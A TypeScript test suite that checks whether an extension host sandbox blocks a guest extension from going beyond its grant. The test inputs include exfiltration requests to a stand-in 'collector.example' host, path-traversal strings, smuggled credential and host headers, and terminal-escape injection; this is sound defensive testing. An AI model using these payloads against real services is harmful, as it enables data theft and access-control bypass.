// What a guest tries to do beyond its grant, against a running host and a real service.
import type { JsonObject } from '@morphee/core'
import type { LogLine, Progress } from '@morphee/host'
import { DatabaseSync } from 'node:sqlite'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { ADA, WORKSPACE } from '../../packages/host/test/fixture/test-host.ts'
import { type Attack, openAttack, SITE, TOKEN } from './attack.ts'

let a: Attack
beforeAll(async () => {
  a = await openAttack()
  await a.host.connect(WORKSPACE, 'acme/probe', ADA, 'token', { token: TOKEN })
})
afterAll(() => a.close())
beforeEach(() => {
  a.seen.length = 0
  a.seenElsewhere.length = 0
  a.answer = (_request, response) => void response.end('{}')
})

const api = (path: string): string => `https://${SITE}/api${path}`
/** The refusals that were recorded while `work` ran. */
async function refusalsOf(work: () => Promise<unknown>): Promise<readonly unknown[]> {
  const [before] = await a.host.audit.list({ workspace: WORKSPACE, limit: 1 })
  await work()
  const after = await a.host.audit.list({ workspace: WORKSPACE, limit: 100 })
  return after.filter(({ seq, decision }) => seq > (before?.seq ?? 0) && decision === 'refused')
}
const records = async (
  limit = 20,
): Promise<
  readonly { capability: string; decision: string; target?: string; refusedBy?: string }[]
> => a.host.audit.list({ workspace: WORKSPACE, extension: 'acme/probe', limit })

describe('beyond the grant', () => {
  it('the good case every attack starts from: a granted read arrives', async () => {
    const [result] = await a.steps('read', [{ do: 'fetch', url: api('/x') }])
    expect(result).toMatchObject({ ok: { status: 200 } })
    expect(a.seen).toHaveLength(1)
  })

  const REFUSED: readonly (readonly [string, string, JsonObject, string])[] = [
    ['another host', 'read', { url: 'https://collector.example/?loot=1' }, 'manifest'],
    [
      'another site of the same service',
      'read',
      { url: 'https://other.services.example/api/x' },
      'manifest',
    ],
    ['another path', 'read', { url: `https://${SITE}/admin` }, 'manifest'],
    [
      'a path that begins like the granted one',
      'read',
      { url: `https://${SITE}/apicalypse` },
      'manifest',
    ],
    ['a path with ..', 'read', { url: `https://${SITE}/api/../admin` }, 'manifest'],
    ['another port', 'read', { url: `https://${SITE}:8443/api/x` }, 'manifest'],
    [
      'a write in a read action',
      'read',
      { url: `https://${SITE}/api/write/x`, method: 'POST', body: '{}' },
      'action',
    ],
    [
      'a DELETE in a read action',
      'read',
      { url: `https://${SITE}/api/write/x`, method: 'DELETE' },
      'action',
    ],
    [
      'a POST through http.read',
      'write',
      { url: `https://${SITE}/api/write/x`, method: 'POST', effect: 'read', body: '{}' },
      'manifest',
    ],
    [
      'a PUT through http.read',
      'write',
      { url: `https://${SITE}/api/write/x`, method: 'PUT', effect: 'read', body: '{}' },
      'action',
    ],
    [
      'a GET through http.write',
      'write',
      { url: `https://${SITE}/api/write/x`, method: 'GET', effect: 'write' },
      'action',
    ],
    [
      'a write outside the written paths',
      'write',
      { url: `https://${SITE}/api/x`, method: 'POST', body: '{}' },
      'manifest',
    ],
    ['a read that the action does not use', 'none', { url: `https://${SITE}/api/x` }, 'action'],
  ]
  for (const [what, action, request, refusedBy] of REFUSED) {
    it(`${what} is refused by the ${refusedBy}, and recorded`, async () => {
      const refusals = await refusalsOf(async () => {
        const [result] = await a.steps(action, [{ do: 'fetch', ...request }])
        expect(result?.failure).toMatchObject({ code: 'permission-denied', details: { refusedBy } })
      })
      expect([...a.seen, ...a.seenElsewhere]).toEqual([])
      expect(refusals).toMatchObject([{ refusedBy }])
    })
  }

  for (const [what, request] of [
    ['userinfo', { url: `https://${SITE}@collector.example/api/x` }],
    ['an encoded slash', { url: `https://${SITE}/api/..%2f..%2fadmin` }],
    ['an encoded dot', { url: `https://${SITE}/api/%2e%2e/admin` }],
    ['a backslash', { url: `https://${SITE}/api\\..\\admin` }],
    ['plain http', { url: `http://${SITE}/api/x` }],
    ['TRACE', { url: `https://${SITE}/api/write/x`, method: 'TRACE' }],
    ['CONNECT', { url: `https://${SITE}/api/write/x`, method: 'CONNECT' }],
    [
      'an authorization of its own',
      { url: `https://${SITE}/api/x`, headers: { authorization: 'Bearer loot' } },
    ],
    ['a cookie of its own', { url: `https://${SITE}/api/x`, headers: { cookie: 'session=loot' } }],
  ] as const) {
    it(`${what} never arrives`, async () => {
      const results = await a.steps('write', [{ do: 'fetch', ...request }])
      expect(results[0]?.failure).toBeDefined()
      expect([...a.seen, ...a.seenElsewhere]).toEqual([])
    })
  }

  it('a method override and a host of its own are stripped', async () => {
    await a.steps('read', [
      {
        do: 'fetch',
        url: api('/x'),
        headers: { host: 'collector.example', 'x-http-method-override': 'DELETE' },
      },
    ])
    expect(a.seen).toMatchObject([{ method: 'GET', headers: { host: SITE } }])
    expect(a.seen[0]?.headers).not.toHaveProperty('x-http-method-override')
  })

  it('a redirect out of the grant is not followed', async () => {
    a.answer = (_request, response) =>
      void response.writeHead(302, { location: 'https://collector.example/?loot=1' }).end()
    const [result] = await a.steps('read', [{ do: 'fetch', url: api('/x'), credential: 'token' }])
    expect(result?.failure).toMatchObject({ code: 'permission-denied' })
    expect(a.seenElsewhere).toEqual([])
  })

  it('many reads at once are each refused on their own', async () => {
    const [result] = await a.steps('read', [
      {
        do: 'together',
        requests: [{ url: api('/1') }, { url: 'https://collector.example/' }, { url: api('/2') }],
      },
    ])
    expect(result?.ok).toMatchObject([
      { status: 200 },
      { code: 'permission-denied' },
      { status: 200 },
    ])
    expect(a.seenElsewhere).toEqual([])
  })
})

describe('credentials', () => {
  it('a credential goes on the wire and is not seen when the service echoes it', async () => {
    a.answer = ({ headers }, response) =>
      void response
        .writeHead(200, { 'x-echo': headers.authorization, 'content-type': 'text/plain' })
        .end(`you sent ${headers.authorization}`)
    const [result] = await a.steps('read', [
      { do: 'fetch', url: api('/echo'), credential: 'token' },
    ])
    expect(a.seen[0]?.headers.authorization).toBe(`Bearer ${TOKEN}`)
    expect(result?.ok.body).toContain('you sent')
    expect(JSON.stringify(result)).not.toContain(TOKEN)
  })

  it('a credential is in no log line, output, error or audit record', async () => {
    const all = JSON.stringify(await records(1000))
    expect(all).toContain('http:read')
    expect(all).not.toContain(TOKEN)
  })

  it('a credential is not read from the settings or the storage', async () => {
    const results = await a.steps('read', [
      { do: 'config', key: 'token' },
      { do: 'get', key: 'token' },
      { do: 'keys', prefix: '' },
    ])
    expect(JSON.stringify(results)).not.toContain(TOKEN)
  })

  it('an unknown credential is refused, and recorded', async () => {
    const refusals = await refusalsOf(async () => {
      const [result] = await a.steps('read', [
        { do: 'fetch', url: api('/x'), credential: 'constructor' },
      ])
      expect(result?.failure).toMatchObject({
        code: 'permission-denied',
        details: { credential: 'constructor' },
      })
    })
    expect(refusals).toMatchObject([{ refusedBy: 'manifest' }])
    expect(a.seen).toEqual([])
  })

  it('a credential that nobody entered is a failure of its own, and nothing is sent', async () => {
    await a.install(a.probe.with({ name: 'acme/unconnected' }), { config: { site: 'acme' } })
    const [result] = await a.steps('read', [{ do: 'fetch', url: api('/x'), credential: 'token' }], {
      extension: 'acme/unconnected',
    })
    expect(result?.failure).toMatchObject({ code: 'unauthenticated' })
    expect(a.seen).toEqual([])
  })

  it('a credential does not go to a granted host that is not its audience', async () => {
    const permissions = [
      {
        'http:read': {
          urls: [`https://${SITE}/api/**`, 'https://collector.example/**'],
          reason: 'Reads',
        },
      },
      { 'http:write': { urls: ['https://collector.example/**'], reason: 'Writes' } },
      'storage:read',
      'storage:write',
    ]
    await a.install(a.probe.with({ name: 'acme/wide', permissions }), { config: { site: 'acme' } })
    await a.host.connect(WORKSPACE, 'acme/wide', ADA, 'token', { token: TOKEN })
    const [result] = await a.steps(
      'read',
      [{ do: 'fetch', url: 'https://collector.example/', credential: 'token' }],
      { extension: 'acme/wide' },
    )
    expect(result?.failure).toMatchObject({ code: 'permission-denied' })
    a.answer = (_request, response) =>
      void response.writeHead(302, { location: 'https://collector.example/after' }).end()
    await a.steps('read', [{ do: 'fetch', url: api('/x'), credential: 'token' }], {
      extension: 'acme/wide',
    })
    expect(a.seenElsewhere.map(({ url }) => url)).toEqual(['/after'])
    expect(JSON.stringify(a.seenElsewhere)).not.toContain(TOKEN)
  })
})

describe('another workspace', () => {
  it('sees no storage, settings, installation, credential or record of this one', async () => {
    const CANARY = 'canary-of-the-first-workspace'
    await a.steps('write', [{ do: 'set', key: 'canary', value: CANARY }])
    await expect(a.steps('read', [], { workspace: 'other' })).rejects.toThrowCode(
      'ERR_HOST_NOT_INSTALLED',
    )
    await a.install(a.probe.wasm, { workspace: 'other', config: { site: 'acme', note: 'mine' } })
    const results = await a.steps(
      'read',
      [
        { do: 'get', key: 'canary' },
        { do: 'keys', prefix: '' },
        { do: 'config', key: 'note' },
        { do: 'fetch', url: api('/x'), credential: 'token' },
      ],
      { workspace: 'other' },
    )
    expect(results).toMatchObject([
      { ok: null },
      { ok: [] },
      { ok: 'mine' },
      { failure: { code: 'unauthenticated' } },
    ])
    expect(
      JSON.stringify(await a.host.audit.list({ workspace: 'other', limit: 1000 })),
    ).not.toContain(CANARY)
    await a.host.installations.remove('other', 'acme/probe', ADA, { keepData: false })
    expect(await a.steps('read', [{ do: 'get', key: 'canary' }])).toEqual([{ ok: CANARY }])
  })

  it('another extension of the same workspace has a storage of its own', async () => {
    await a.steps('write', [{ do: 'set', key: 'own', value: 1 }])
    await a.install(a.probe.with({ name: 'acme/neighbour' }), { config: { site: 'acme' } })
    expect(
      await a.steps(
        'read',
        [
          { do: 'get', key: 'own' },
          { do: 'keys', prefix: '' },
        ],
        { extension: 'acme/neighbour' },
      ),
    ).toEqual([{ ok: null }, { ok: [] }])
  })
})

describe('floods', () => {
  it('log lines over the limit are dropped and counted', async () => {
    await a.install(a.probe.with({ name: 'acme/chatty', limits: { 'log-lines': 50 } }), {
      config: { site: 'acme' },
    })
    const { log, droppedLogLines } = await a.call('acme/chatty', 'read', {
      steps: [{ do: 'log', text: 'a\u202eb\u001b[31m', times: 5000 }],
    })
    expect(log).toHaveLength(50)
    expect(droppedLogLines).toBe(4950)
    expect(log[0] satisfies LogLine | undefined).toEqual({ level: 'info', message: 'ab[31m' })
  })

  it('progress in a loop is thinned out, cleaned and kept between 0 and 1', async () => {
    const told: Progress[] = []
    const onProgress = (progress: Progress): void => void told.push(progress)
    await a.steps(
      'read',
      [
        { do: 'progress', fraction: 0.5, text: 'half\u202e', times: 20_000 },
        { do: 'progress', fraction: 7, text: 'more' },
      ],
      { onProgress },
    )
    expect(told.length).toBeGreaterThan(99)
    expect(told.length).toBeLessThan(1000)
    expect(told[0]).toEqual({ fraction: 0.5, message: 'half' })
    for (const { fraction } of told)
      if (fraction !== undefined) expect(fraction).toBeLessThanOrEqual(1)
  })

  it('a listener that throws ends the call, not the host', async () => {
    const onProgress = (): void => {
      throw new Error('the listener is broken')
    }
    await expect(
      a.steps(
        'read',
        [
          { do: 'progress', text: 'x' },
          { do: 'get', key: 'x' },
        ],
        { onProgress },
      ),
    ).rejects.toThrow('the listener is broken')
    expect(await a.steps('read', [])).toEqual([])
  })

  it('a key of a megabyte is a failure, and its record is short and clean', async () => {
    const [result] = await a.steps('write', [
      { do: 'set', key: `\u202e${'k'.repeat(1_000_000)}`, value: 1 },
    ])
    expect(result?.failure?.code).toBe('invalid-input')
    const [record] = (await records(10)).filter(({ target }) => target?.startsWith('key k'))
    expect(record?.target?.length).toBeLessThanOrEqual(2000)
  })

  it('host calls over the limit stop the call', async () => {
    await a.install(a.probe.with({ name: 'acme/busy', limits: { 'host-calls': 20 } }), {
      config: { site: 'acme' },
    })
    const steps = Array.from({ length: 30 }, () => ({ do: 'get', key: 'x' }))
    const stopped = a.steps('read', steps, { extension: 'acme/busy' })
    await expect(stopped).rejects.toThrowCode('ERR_HOST_LIMIT')
    await expect(stopped).rejects.toMatchObject({ details: { limit: 'host-calls', value: 20 } })
  })

  it('each of many reads at once counts as a host call', async () => {
    const requests = Array.from({ length: 30 }, () => ({ url: 'https://collector.example/' }))
    const stopped = a.steps('read', [{ do: 'together', requests }], { extension: 'acme/busy' })
    await expect(stopped).rejects.toMatchObject({
      code: 'ERR_HOST_LIMIT',
      details: { limit: 'host-calls' },
    })
  })

  it('answers of many reads at once are bounded together', async () => {
    await a.install(a.probe.with({ name: 'acme/greedy', limits: { memory: '16 MiB' } }), {
      config: { site: 'acme' },
    })
    a.answer = (_request, response) => void response.end(Buffer.alloc(4 * 1024 * 1024))
    const requests = Array.from({ length: 16 }, (_, n) => ({ url: api(`/${n}`) }))
    await expect(
      a.steps('read', [{ do: 'together', requests }], { extension: 'acme/greedy' }),
    ).rejects.toMatchObject({ code: 'ERR_HOST_LIMIT', details: { limit: 'memory' } })
  })

  it('the rate limit refuses before anything is sent, and says when to come back', async () => {
    await a.install(
      a.probe.with({ name: 'acme/eager', limits: { 'http-requests-per-minute': 5 } }),
      { config: { site: 'acme' } },
    )
    const results = await a.steps(
      'read',
      Array.from({ length: 8 }, () => ({ do: 'fetch', url: api('/eager') })),
      { extension: 'acme/eager' },
    )
    expect(results.filter(({ ok }) => ok !== undefined)).toHaveLength(5)
    expect(results.at(-1)?.failure).toMatchObject({
      code: 'rate-limited',
      retryAfterMs: expect.any(Number) as number,
    })
    expect(a.seen.filter(({ url }) => url === '/api/eager')).toHaveLength(5)
    const again = await a.steps('read', [{ do: 'fetch', url: api('/eager') }], {
      extension: 'acme/eager',
    })
    expect(again[0]?.failure?.code).toBe('rate-limited')
  })

  it('the bandwidth limit stops what is too much', async () => {
    await a.install(
      a.probe.with({ name: 'acme/hungry', limits: { 'bandwidth-per-minute': '64 KiB' } }),
      { config: { site: 'acme' } },
    )
    a.answer = (_request, response) => void response.end(Buffer.alloc(40 * 1024))
    const results = await a.steps(
      'read',
      [
        { do: 'fetch', url: api('/1') },
        { do: 'fetch', url: api('/2') },
        { do: 'fetch', url: api('/3') },
      ],
      { extension: 'acme/hungry' },
    )
    expect(results[0]).toMatchObject({ ok: { status: 200 } })
    expect(results[1]?.failure?.code).toBe('rate-limited')
    expect(results[2]?.failure?.code).toBe('rate-limited')
  })

  it('a service that asks to wait is left alone, by name and for that extension only', async () => {
    await a.install(a.probe.with({ name: 'acme/told' }), { config: { site: 'acme' } })
    a.answer = (_request, response) => void response.writeHead(429, { 'retry-after': '60' }).end()
    const results = await a.steps(
      'read',
      [
        { do: 'fetch', url: api('/wait') },
        { do: 'fetch', url: api('/2') },
      ],
      { extension: 'acme/told' },
    )
    expect(results[0]).toMatchObject({ ok: { status: 429 } })
    expect(results[1]?.failure).toMatchObject({ code: 'rate-limited' })
    expect(results[1]?.failure?.retryAfterMs).toBeGreaterThan(50_000)
    expect(a.seen.filter(({ url }) => url === '/api/wait')).toHaveLength(1)
    await a.install(a.probe.with({ name: 'acme/untold' }), { config: { site: 'acme' } })
    const [other] = await a.steps('read', [{ do: 'fetch', url: api('/3') }], {
      extension: 'acme/untold',
    })
    expect(other).toMatchObject({ ok: { status: 429 } })
  })
})

describe('waiting', () => {
  it('a service that never answers is given up at the time that the guest chose', async () => {
    a.answer = () => {}
    const [result] = await a.steps('read', [{ do: 'fetch', url: api('/x'), timeoutMs: 200 }])
    expect(result?.failure?.code).toBe('timeout')
  })

  it('a service that never answers ends with the wall limit of the call, which is recorded as that', async () => {
    await a.install(a.probe.with({ name: 'acme/patient', limits: { 'wall-time': '1 s' } }), {
      config: { site: 'acme' },
    })
    a.answer = () => {}
    const stopped = a.steps(
      'read',
      [
        { do: 'fetch', url: api('/x') },
        { do: 'fetch', url: api('/x') },
      ],
      { extension: 'acme/patient' },
    )
    await expect(stopped).rejects.toMatchObject({
      code: 'ERR_HOST_LIMIT',
      details: { limit: 'wall-time', value: 1000 },
    })
    const [last] = await a.host.audit.list({
      workspace: WORKSPACE,
      extension: 'acme/patient',
      limit: 1,
    })
    expect(last).toMatchObject({ kind: 'outcome' })
  })

  it('a request that is under way when its call is taken back ends with it', async () => {
    const closed = Promise.withResolvers<void>()
    const controller = new AbortController()
    a.answer = (request) => {
      request.socket.on('close', () => closed.resolve())
      controller.abort()
    }
    await expect(
      a.steps('read', [{ do: 'fetch', url: api('/x') }], { signal: controller.signal }),
    ).rejects.toThrowCode('ERR_HOST_CANCELLED')
    await closed.promise
  })
})

describe('what a guest says', () => {
  it('a failure keeps the form of the contract, is cleaned and bounded', async () => {
    const failing = a.steps(
      'read',
      [
        {
          do: 'fail',
          code: 'ERR_HOST_PERMISSION_DENIED',
          message: `run \u001b[2J\u202e${'x'.repeat(100_000)}`,
          details: { big: 'y'.repeat(100_000) },
        },
      ],
      { rethrow: true },
    )
    const error = (await failing.catch((thrown: unknown) => thrown)) as Error & {
      code: string
      details: { code: string; details?: string }
    }
    expect(error.code).toBe('ERR_HOST_EXTENSION_FAILED')
    expect(error.details).toEqual({ code: 'internal' })
    expect(error.message.length).toBeLessThan(1200)
    for (const hidden of ['\u001b', '\u202e']) expect(error.message).not.toContain(hidden)
  })
})

describe('when the record cannot be written', () => {
  it('the effect does not happen, and the guest is stopped', async () => {
    const database = new DatabaseSync(join(a.home, 'morphee.db'))
    database.exec(
      `CREATE TRIGGER full BEFORE INSERT ON audit_record WHEN NEW.body LIKE '%"capability":"http:%' BEGIN SELECT RAISE(ABORT, 'disk full'); END`,
    )
    try {
      await expect(
        a.steps('write', [{ do: 'fetch', url: api('/write/x'), method: 'POST', body: '{}' }]),
      ).rejects.toThrowCode('ERR_AUDIT_RECORD')
      await expect(
        a.steps('read', [
          { do: 'together', requests: [{ url: api('/wait') }, { url: api('/2') }] },
        ]),
      ).rejects.toThrowCode('ERR_AUDIT_RECORD')
      expect(a.seen).toEqual([])
    } finally {
      database.exec('DROP TRIGGER full')
      database.close()
    }
    expect(await a.steps('read', [{ do: 'fetch', url: api('/x') }])).toMatchObject([
      { ok: { status: 200 } },
    ])
  })
})

it('the audit trail of all these attacks verifies', async () => {
  const { workspaces } = await a.host.verifyAudit()
  expect(workspaces.length).toBeGreaterThan(1)
})
